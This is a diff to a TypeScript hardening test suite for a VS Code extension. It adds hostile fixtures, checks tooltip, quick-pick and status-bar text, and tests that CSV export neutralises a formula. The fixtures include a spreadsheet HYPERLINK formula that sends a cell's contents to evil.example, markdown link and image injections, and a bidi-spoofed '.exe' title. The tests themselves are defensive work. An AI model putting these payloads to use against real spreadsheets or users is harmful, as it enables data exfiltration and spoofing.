@@ -2,7 +2,12 @@
 // row ids, a key change that reloads once, a timeout change that keeps what is loaded, a refresh that keeps the rows
 // until the new page lands (and under the error when it fails), and no Load All on groups fed by the unfiltered list.
 import * as assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
 import * as vscode from 'vscode';
+import type { ExportResult } from '../../../src/commands/exportCommand';
 import type { PageGatewayTestApi } from '../../../src/extension';
 import type { PageGroupsNode } from '../../../src/features/pageGroups/view/pageGroupsProvider';
 import { NO_STATUS } from '../../../src/features/pageGroups/model/pageGroupsModel';
@@ -18,15 +23,33 @@ const hostile: Record<string, unknown>[] = [
   { pageGroupId: 'pg_long', status: 'published', title: LONG },
   { pageGroupId: 'pg_surrogate_status', status: '\udc00', title: 'status is a lone surrogate' },
   { pageGroupId: 'pg_empty_status', status: '', title: 'status is the empty string' },
-  { pageGroupId: 'pg_nested', status: 'draft', title: 'deep', actions: JSON.parse(`${'['.repeat(3000)}1${']'.repeat(3000)}`) as unknown },
+  { pageGroupId: 'pg_nested', status: 'draft', title: 'deep', actions: JSON.parse(`${'['.repeat(100_000)}1${']'.repeat(100_000)}`) as unknown },
+  {
+    pageGroupId: 'pg_icon',
+    status: 'draft',
+    title: '$(pass-filled) Verified \u202Egnp.exe',
+    name: '=HYPERLINK("https://evil.example/?"&C2,"open")',
+    tenantId: '[open](https://evil.example/) ![x](https://evil.example/p.png) <img src=x>',
+    brandId: '$(verified-filled)',
+  },
 ];
+const PASSWORD = 'hunter2-s3cret';
+/** Icons that only server text in this suite names: none may be drawn. */
+const DATA_ICONS = ['pass-filled', 'verified-filled'];
 const dataset: Dataset = {
   pageGroups: [...hostile, ...base.pageGroups],
   webhooks: [
     ...base.webhooks,
     { id: 'wh_\ud800', url: 'https://hooks.example/\u202Ereversed', events: ['form.submitted', 'x\u0000y'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
+    { id: 'wh_pw', url: `https://bob:${PASSWORD}@hooks.example/in`, events: ['form.submitted'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
+    { url: `https://bob:${PASSWORD}@noid.example/in`, events: ['form.submitted'], active: true, createdAt: '2026-01-01T00:00Z', updatedAt: '2026-01-01T00:00Z' },
   ],
 };
+
+/** The editor's icon syntax; group 1 is the escaping backslash. Markdown's own escapes are removed first for tooltips. */
+const EDITOR_ICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
+const unescapeMarkdown = (text: string): string => text.replace(/\\([!-/:-@[-`{-~])/g, '$1');
+const drawnIcons = (text: string): string[] => [...text.matchAll(EDITOR_ICON)].filter((m) => m[1] === undefined).map((m) => m[2] as string);
 
 // eslint-disable-next-line no-control-regex
 const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
@@ -101,6 +124,105 @@ describe('Hardening: hostile strings, events, races', function () {
         }
         await vscode.commands.executeCommand('pageGateway.openJson', row.node);
       }
+    }
+  });
+
+  it(`a value nested 100,000 deep, in two loads in a row, then refreshes: the status keeps its rows, marks computed`, async () => {
+    const draft = await statusRow(api, 'draft');
+    const ids = async (): Promise<unknown[]> => (await pageGroupRows(api, draft.node)).map((r) => (r.node.kind === 'pageGroup' ? r.node.item.value.pageGroupId : r.contextValue));
+    assert.ok((await ids()).includes('pg_nested'));
+    for (let refresh = 0; refresh < 2; refresh++) {
+      await vscode.commands.executeCommand('pageGateway.refreshPageGroups', draft.node);
+      // The tree asks for the rows again: the new page lands, and its change marks are computed against the old one.
+      const after = await ids();
+      assert.ok(!(await statusRow(api, 'draft')).description.includes('refreshing'));
+      assert.ok(after.includes('pg_nested') && after.includes('pg_icon'), `refresh ${refresh + 1}: ${after.join(', ')}`);
+      assert.ok(!after.some((id) => String(id).startsWith('pageGateway.error')), 'no error row');
+    }
+  });
+
+  it('tooltips: no icon, link or image from server text, no password of a webhook URL', async () => {
+    const rows = [...(await wholeTree())];
+    for (const row of await webhookRows(api)) {
+      rows.push(row as unknown as Row<PageGroupsNode>);
+      if (row.node.kind === 'webhook') {
+        rows.push(...((await webhookRows(api, row.node)) as unknown as Row<PageGroupsNode>[]));
+      }
+    }
+    const icon = rows.find((r) => r.node.kind === 'pageGroup' && r.node.item.value.pageGroupId === 'pg_icon');
+    assert.ok(icon, 'the page group with icons in its title is shown');
+    for (const row of rows) {
+      const rendered = unescapeMarkdown(row.tooltip);
+      assert.deepEqual(drawnIcons(rendered).filter((name) => DATA_ICONS.includes(name)), [], `tooltip of ${row.id}`);
+      assert.doesNotMatch(row.tooltip, /(^|[^\\])\]\(|(^|[^\\])!\[|(^|[^\\])<img|(^|[^\\])https:\/\//, `no link, image or HTML in the tooltip of ${row.id}`);
+      assert.ok(!row.tooltip.includes(PASSWORD) && !row.label.includes(PASSWORD) && !row.description.includes(PASSWORD), `no password in ${row.id}`);
+    }
+    assert.match(unescapeMarkdown(icon.tooltip), /\\\$\(pass-filled\) Verified/, 'shown as the text $(pass-filled)');
+  });
+
+  it('quick picks, status bar messages and progress titles: server text draws no icon, shows no raw bidi, no password', async () => {
+    await wholeTree();
+    await webhookRows(api);
+    const shown: string[] = [];
+    const window = vscode.window as unknown as Record<string, unknown>;
+    const saved = { showQuickPick: window.showQuickPick, setStatusBarMessage: window.setStatusBarMessage, withProgress: window.withProgress, showInputBox: window.showInputBox };
+    let choose: (items: readonly vscode.QuickPickItem[]) => vscode.QuickPickItem | undefined = () => undefined;
+    window.showQuickPick = async (items: readonly vscode.QuickPickItem[] | Thenable<readonly vscode.QuickPickItem[]>, options?: vscode.QuickPickOptions): Promise<unknown> => {
+      const list = await items;
+      shown.push(options?.title ?? '', ...list.flatMap((i) => [i.label, i.description ?? '', i.detail ?? '']));
+      return choose(list);
+    };
+    window.setStatusBarMessage = (text: string, ...rest: unknown[]): vscode.Disposable => {
+      shown.push(text);
+      return (saved.setStatusBarMessage as (...args: unknown[]) => vscode.Disposable)(text, ...rest);
+    };
+    window.withProgress = (options: vscode.ProgressOptions, task: unknown): unknown => {
+      shown.push(options.title ?? '');
+      return (saved.withProgress as (...args: unknown[]) => unknown)(options, task);
+    };
+    window.showInputBox = (): Promise<string> => Promise.resolve('$(pass-filled)\u202E_not_there');
+    const byValue = (id: string) => (items: readonly vscode.QuickPickItem[]): vscode.QuickPickItem | undefined =>
+      items.find((i) => (i as { ref?: { item: { value: { pageGroupId?: string; id?: string } } } }).ref?.item.value[id.startsWith('pg_') ? 'pageGroupId' : 'id'] === id);
+    try {
+      choose = byValue('pg_icon');
+      await vscode.commands.executeCommand('pageGateway.copyId');
+      choose = byValue('wh_pw');
+      await vscode.commands.executeCommand('pageGateway.copyWebhookUrl');
+      assert.equal(await vscode.env.clipboard.readText(), `https://bob:${PASSWORD}@hooks.example/in`, 'the clipboard gets the URL as sent');
+      choose = () => undefined;
+      await vscode.commands.executeCommand('pageGateway.openJson');
+      await vscode.commands.executeCommand('pageGateway.selectForCompare');
+      await vscode.commands.executeCommand('pageGateway.goToId');
+    } finally {
+      Object.assign(window, saved);
+    }
+    assert.ok(shown.some((text) => text.includes('pass-filled')), `the hostile title was shown: ${shown.length} texts`);
+    assert.ok(shown.some((text) => text.includes('bob:***@hooks.example')), 'the webhook URL is shown, masked');
+    for (const text of shown) {
+      assert.deepEqual(drawnIcons(text).filter((name) => DATA_ICONS.includes(name)), [], JSON.stringify(text));
+      assert.doesNotMatch(text, UNSAFE, JSON.stringify(text));
+      assert.ok(!text.includes(PASSWORD), JSON.stringify(text));
+    }
+  });
+
+  it('CSV export: a formula sent by the server is written as text (leading \'), read back with csv-parse', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pge-hostile-'));
+    try {
+      const draft = await statusRow(api, 'draft');
+      await pageGroupRows(api, draft.node);
+      const target = path.join(dir, 'draft.csv');
+      const result = await vscode.commands.executeCommand<ExportResult | undefined>('pageGateway.export', draft.node, { target, scope: 'loaded', format: 'csv' });
+      assert.equal(result?.outcome, 'complete');
+      assert.ok((result?.neutralized ?? 0) >= 1);
+      const rows = parse(fs.readFileSync(target, 'utf8')) as string[][];
+      const header = rows[0] ?? [];
+      const row = rows.find((r) => r[header.indexOf('pageGroupId')] === 'pg_icon');
+      assert.equal(row?.[header.indexOf('name')], '\'=HYPERLINK("https://evil.example/?"&C2,"open")');
+      if (process.platform !== 'win32') {
+        assert.equal(fs.statSync(target).mode & 0o777, 0o600, 'readable by its owner only');
+      }
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
     }
   });
 
